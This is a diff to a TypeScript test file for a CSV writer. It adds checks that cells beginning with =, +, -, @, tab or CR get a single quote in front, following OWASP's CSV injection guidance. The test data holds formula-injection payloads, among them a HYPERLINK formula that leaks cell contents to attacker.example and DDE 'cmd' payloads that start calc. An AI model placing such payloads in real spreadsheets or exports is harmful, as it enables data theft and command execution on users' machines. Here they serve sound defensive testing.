@@ -1,6 +1,13 @@
-/** CSV writing and reading against the rules of RFC 4180. */
+/**
+ * CSV writing against the rules of RFC 4180 and OWASP's CSV injection guidance, read back
+ * with an independent parser (csv-parse) and compared with literal cells.
+ */
+import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
-import { csvField, objectsToCsv, parseCsv, toCsv } from '../../src/lib/csv';
+import { csvField, objectsToCsv, toCsv } from '../../src/lib/csv';
+
+/** Rows of a CSV document, as a spreadsheet-agnostic RFC 4180 reader sees them. */
+const read = (csv: string): string[][] => parse(csv, { record_delimiter: '\r\n', relax_column_count: false });
 
 describe('toCsv', () => {
   it('writes a header and rows with CRLF line ends, quoting only where needed', () => {
@@ -29,27 +36,51 @@ describe('toCsv', () => {
   it('writes objects by named columns', () => {
     expect(objectsToCsv([['name', (p: { n: string }) => p.n]], [{ n: 'x' }])).toBe('name\r\nx\r\n');
   });
+
+  it('reads back, with csv-parse, exactly what it wrote', () => {
+    const rows = [['id', 'text'], ['1', 'Ampersands & <angle> "quotes", commas\r\nand lines'], ['2', ' edge ']];
+    expect(read(toCsv(rows[0]!, rows.slice(1)))).toEqual(rows);
+  });
 });
 
-describe('parseCsv', () => {
-  it('reads the RFC 4180 examples', () => {
-    expect(parseCsv('aaa,bbb,ccc\r\nzzz,yyy,xxx\r\n')).toEqual([['aaa', 'bbb', 'ccc'], ['zzz', 'yyy', 'xxx']]);
-    expect(parseCsv('aaa,bbb,ccc\r\nzzz,yyy,xxx')).toEqual([['aaa', 'bbb', 'ccc'], ['zzz', 'yyy', 'xxx']]);
-    expect(parseCsv('"aaa","b\r\nbb","ccc"\r\n')).toEqual([['aaa', 'b\r\nbb', 'ccc']]);
-    expect(parseCsv('"aaa","b""bb","ccc"\r\n')).toEqual([['aaa', 'b"bb', 'ccc']]);
+describe('formulas (OWASP CSV injection)', () => {
+  const header = ['case', 'value'];
+  const cases: [string, string][] = [
+    ['equals', '=HYPERLINK("https://attacker.example/?leak="&A1,"Details")'],
+    ['plus', '+1+cmd|\' /C calc\'!A0'],
+    ['minus', '-2+3+cmd|\' /C calc\'!A0'],
+    ['at', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
+    ['tab', '\t=1+1'],
+    ['carriage return', '\r=1+1'],
+  ];
+
+  it('puts a single quote before text that starts with = + - @ tab or CR, and quotes the cell', () => {
+    const csv = toCsv(header, cases);
+    expect(csv.split('\r\n').slice(1, 5)).toEqual([
+      `equals,"'=HYPERLINK(""https://attacker.example/?leak=""&A1,""Details"")"`,
+      `plus,"'+1+cmd|' /C calc'!A0"`,
+      `minus,"'-2+3+cmd|' /C calc'!A0"`,
+      `at,"'@SUM(1+1)*cmd|' /C calc'!A0"`,
+    ]);
+    expect(read(csv)).toEqual([
+      header,
+      ['equals', `'=HYPERLINK("https://attacker.example/?leak="&A1,"Details")`],
+      ['plus', `'+1+cmd|' /C calc'!A0`],
+      ['minus', `'-2+3+cmd|' /C calc'!A0`],
+      ['at', `'@SUM(1+1)*cmd|' /C calc'!A0`],
+      ['tab', `'\t=1+1`],
+      ['carriage return', `'\r=1+1`],
+    ]);
   });
 
-  it('keeps empty fields, also at the end of a line', () => {
-    expect(parseCsv('a,,\r\n,"",x\n')).toEqual([['a', '', ''], ['', '', 'x']]);
+  it('leaves numbers as numbers, negative ones too, but not text that looks like a number', () => {
+    const csv = toCsv(['longitude', 'count', 'text'], [[-122.99, -5, '-5']]);
+    expect(csv).toBe(`longitude,count,text\r\n-122.99,-5,"'-5"\r\n`);
+    expect(read(csv)).toEqual([['longitude', 'count', 'text'], ['-122.99', '-5', "'-5"]]);
   });
 
-  it('rejects broken quoting', () => {
-    expect(() => parseCsv('"open,field\r\n')).toThrow(/never closed/);
-    expect(() => parseCsv('"a"b,c\r\n')).toThrow(/after a closing quote/);
-  });
-
-  it('reads back what toCsv wrote', () => {
-    const rows = [['id', 'text'], ['1', 'Ampersands & <angle> "quotes", commas\r\nand lines'], ['2', ' edge ']];
-    expect(parseCsv(toCsv(rows[0]!, rows.slice(1)))).toEqual(rows);
+  it('leaves text that only contains those characters later on as it is', () => {
+    expect(read(toCsv(['a'], [['1+1=2 @ noon - fine']]))).toEqual([['a'], ['1+1=2 @ noon - fine']]);
+    expect(csvField('2026-09-01')).toBe('2026-09-01');
   });
 });
